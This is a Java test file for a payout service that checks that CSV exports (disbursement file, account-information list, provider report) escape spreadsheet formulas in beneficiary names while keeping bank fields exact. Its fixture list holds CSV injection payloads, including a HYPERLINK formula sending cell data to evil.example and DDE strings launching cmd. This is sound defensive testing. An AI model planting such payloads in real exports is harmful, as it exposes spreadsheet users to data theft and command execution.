package vn.ansinh.payout.cycle;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.ansinh.payout.testing.Api.asSubject;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import vn.ansinh.payout.security.Roles;

/**
 * Every CSV the service writes goes through the formula guard: names that a spreadsheet would run as a
 * formula (starting with =, +, -, @, a tab or a carriage return) come out with a leading apostrophe in the
 * provider's disbursement file, the 5234 account-information list and the reports, while the fields the
 * provider matches byte for byte (references, account numbers, amounts) stay exact. Province 87, social pension of October 2025.
 */
@QuarkusTest
class FormulaInjectionExportTest {

    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!'A1'", "@SUM(1+1)", "\tTab Nguyễn", "\rCR Trần");

    @Test
    void namesThatLookLikeFormulasAreGuardedInEveryCsvAndTheBanksFieldsStayExact() throws Exception {
        CycleFixture f = new CycleFixture("87");
        List<String> accounts = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            var person = f.person(HOSTILE.get(i), LocalDate.parse("1950-01-01").plusDays(i), "MALE");
            f.entitlement(person, "SOCIAL_PENSION", "HTXH", null, 0, "2025-08");
            String account = "8700000000" + i;
            accounts.add(account);
            f.bankAccount(person, account, "2025-08");
            CycleFixture.sql("update payment_method set account_holder_name = ? where beneficiary_id = ?", HOSTILE.get(i), person);
        }
        JsonPath cycle = f.open("SOCIAL_PENSION", "2025-10");
        String cycleId = cycle.getString("id");
        f.approveAndRelease(cycleId, cycle.getString("linesSha256"));

        // the provider's disbursement file: payee names guarded, references, accounts and amounts exact
        Response file = f.asProvider().accept("text/csv").get("/api/v1/cycles/" + cycleId + "/disbursements");
        file.then().statusCode(200);
        byte[] bytes = file.asByteArray();
        assertThat(file.header("X-Checksum-SHA256"))
                .isEqualTo(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes)));
        List<CSVRecord> disbursement = parse(new String(bytes, StandardCharsets.UTF_8));
        assertThat(disbursement.get(0).get(0)).isEqualTo("reference_id");
        assertNoCellRunsAsAFormula(disbursement);
        assertThat(column(disbursement, "payee_name")).containsAll(HOSTILE.stream().map(n -> "'" + n).toList());
        assertThat(column(disbursement, "account_number")).containsExactlyInAnyOrderElementsOf(accounts);
        assertThat(column(disbursement, "amount_vnd")).allMatch(a -> a.matches("[0-9]+"));
        assertThat(column(disbursement, "reference_id")).allMatch(r -> r.startsWith("C87"));

        // the 5234 account-information list (a spreadsheet for the commune and the bank)
        String list = asSubject("prov-87", Roles.PROVINCE_OFFICER, "87").accept("text/csv").queryParam("area", "87")
                .queryParam("format", "csv").get("/api/v1/reports/account-information").then().statusCode(200).extract().asString();
        List<CSVRecord> rows = parse(list.substring(1)); // after the byte-order mark
        assertNoCellRunsAsAFormula(rows);
        assertThat(rows.stream().map(r -> r.get(1)).toList()).containsAll(HOSTILE.stream().map(n -> "'" + n).toList());
        assertThat(rows.stream().map(r -> r.get(9)).toList()).containsAll(HOSTILE.stream().map(n -> "'" + n).toList());
        assertThat(rows.stream().map(r -> r.get(7)).toList()).containsAll(accounts);

        // a report that lists people: the provider's report of the cycle
        String report = asSubject("prov-87", Roles.PROVINCE_OFFICER, "87").accept("text/csv").queryParam("cycleId", cycleId)
                .queryParam("format", "csv").get("/api/v1/reports/provider").then().statusCode(200).extract().asString();
        List<CSVRecord> reportRows = parse(report.substring(1));
        assertNoCellRunsAsAFormula(reportRows);
        assertThat(reportRows.stream().flatMap(r -> r.stream()).toList()).containsAll(HOSTILE.stream().map(n -> "'" + n).toList());
    }

    private static List<CSVRecord> parse(String csv) throws Exception {
        return CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
    }

    private static List<String> column(List<CSVRecord> records, String name) {
        int index = records.get(0).toList().indexOf(name);
        return records.subList(1, records.size()).stream().map(r -> r.get(index)).toList();
    }

    /** A cell may start with '-' or '+' only as a plain signed number; never with =, @, a tab or a CR. */
    private static void assertNoCellRunsAsAFormula(List<CSVRecord> records) {
        for (CSVRecord r : records) {
            for (String cell : r) {
                if (cell.isEmpty()) {
                    continue;
                }
                assertThat("=@\t\r".indexOf(cell.charAt(0))).as("cell %s", cell).isNegative();
                if (cell.charAt(0) == '-' || cell.charAt(0) == '+') {
                    assertThat(cell).matches("[-+][0-9][0-9.,]*%?");
                }
            }
        }
    }
}
